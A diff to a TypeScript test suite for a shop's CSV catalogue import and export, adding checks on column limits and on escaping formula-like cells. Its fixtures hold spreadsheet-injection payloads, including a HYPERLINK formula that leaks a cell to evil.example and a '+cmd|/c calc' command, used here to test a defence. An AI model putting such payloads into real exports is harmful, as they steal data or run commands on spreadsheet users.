@@ -56,10 +56,13 @@ describe('CSV import and export', () => {
     const report = await importCsv(store.slug, SHOPIFY, true);
     expect(report.status).toBe(200);
     expect(report.body).toMatchObject({ rows: 5, created: 2, updated: 0, refused: [] });
+    // The first 20 ignored columns are named, and all of them counted.
+    expect(report.body.ignored_columns).toHaveLength(20);
     expect(report.body.ignored_columns).toEqual(
-      expect.arrayContaining(['Vendor', 'Variant SKU', 'SEO Title', 'Option1 Linked To']),
+      expect.arrayContaining(['Vendor', 'Variant SKU', 'Gift Card', 'Option1 Linked To']),
     );
     expect(report.body.ignored_columns).not.toContain('Handle');
+    expect(report.body.ignored_columns_count).toBe(26);
     expect(report.body.pictures_not_imported.map((p: { row: number }) => p.row)).toEqual([2, 5, 6]);
     expect(report.body.tags_added).toEqual(['mens t-shirt example', 'cotton', 'winter']);
     const [shirt, hat] = await catalogue(store.slug);
@@ -162,6 +165,76 @@ describe('CSV import and export', () => {
     });
     expect((await importCsv(store.slug, 'Handle,Title\n"unclosed,1')).status).toBe(400);
     expect((await importCsv(store.slug, '')).status).toBe(400);
+  });
+
+  it('refuses a header of more than 200 columns with 400, and names at most 20 ignored ones', async () => {
+    const store = await newStore('Wide Files');
+    const wide = [
+      'Handle',
+      'Title',
+      'Variant Price',
+      ...Array.from({ length: 198 }, (_, i) => `Extra ${i}`),
+    ];
+    const answer = await importCsv(store.slug, `${wide.join(',')}\nwide-one,Wide one,100`);
+    expect(answer).toMatchObject({
+      status: 400,
+      body: {
+        message:
+          'The file has 201 columns; at most 200 can be read. Remove the columns you do not need and import it again.',
+      },
+    });
+    const taken = await importCsv(
+      store.slug,
+      `${wide.slice(0, 200).join(',')}\nwide-one,Wide one,100`,
+    );
+    expect(taken.status).toBe(200);
+    expect(taken.body.ignored_columns).toEqual(Array.from({ length: 20 }, (_, i) => `Extra ${i}`));
+    expect(taken.body.ignored_columns_count).toBe(197);
+  });
+
+  it('exports text that starts like a formula with a quote before it, and imports it back as it was', async () => {
+    const from = await newStore('Formula From');
+    await server.call('PATCH', `/stores/${from.slug}`, {
+      token: owner.token,
+      body: { categories: [{ name: 'Tricky', tags: ['-minus', '@at'] }] },
+    });
+    const made = await server.call('POST', `/stores/${from.slug}/products`, {
+      token: owner.token,
+      body: {
+        name: '=HYPERLINK("https://evil.example/?d="&B3,"Open")',
+        description: '+cmd|/c calc!A0',
+        tags: ['-minus', '@at'],
+        mods: [
+          {
+            key: 'size',
+            type: 'list',
+            prompt: 'Choose a size',
+            required: true,
+            options: ['=1+1', "'=quoted", 'Plain'],
+          },
+        ],
+        variants: [
+          { mods: { size: '=1+1' }, qty: 2, price_kobo: 150_000 },
+          { mods: { size: "'=quoted" }, qty: 0, price_kobo: 90_000 },
+          { mods: { size: 'Plain' }, qty: 1, price_kobo: 100 },
+        ],
+      },
+    });
+    expect(made.status).toBe(201);
+    const exported = await server.call('GET', `/stores/${from.slug}/catalogue/export`, {
+      token: owner.token,
+    });
+    const cells = exported.body.csv.split('\n')[1];
+    // No cell starts with = + - or @ for a spreadsheet to run; numbers are left as they are.
+    expect(cells).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&B3,""Open"")"`);
+    expect(cells).toContain("'-minus, @at");
+    expect(cells).toContain("'=1+1");
+    expect(exported.body.csv).toContain("''=quoted");
+    expect(cells).toContain(',1500.00,');
+    const to = await newStore('Formula To');
+    const report = await importCsv(to.slug, exported.body.csv, true);
+    expect(report.body).toMatchObject({ created: 1, refused: [] });
+    expect(await catalogue(to.slug)).toEqual(await catalogue(from.slug));
   });
 
   it('export then import into an empty store gives the same catalogue, drafts and categories too', async () => {
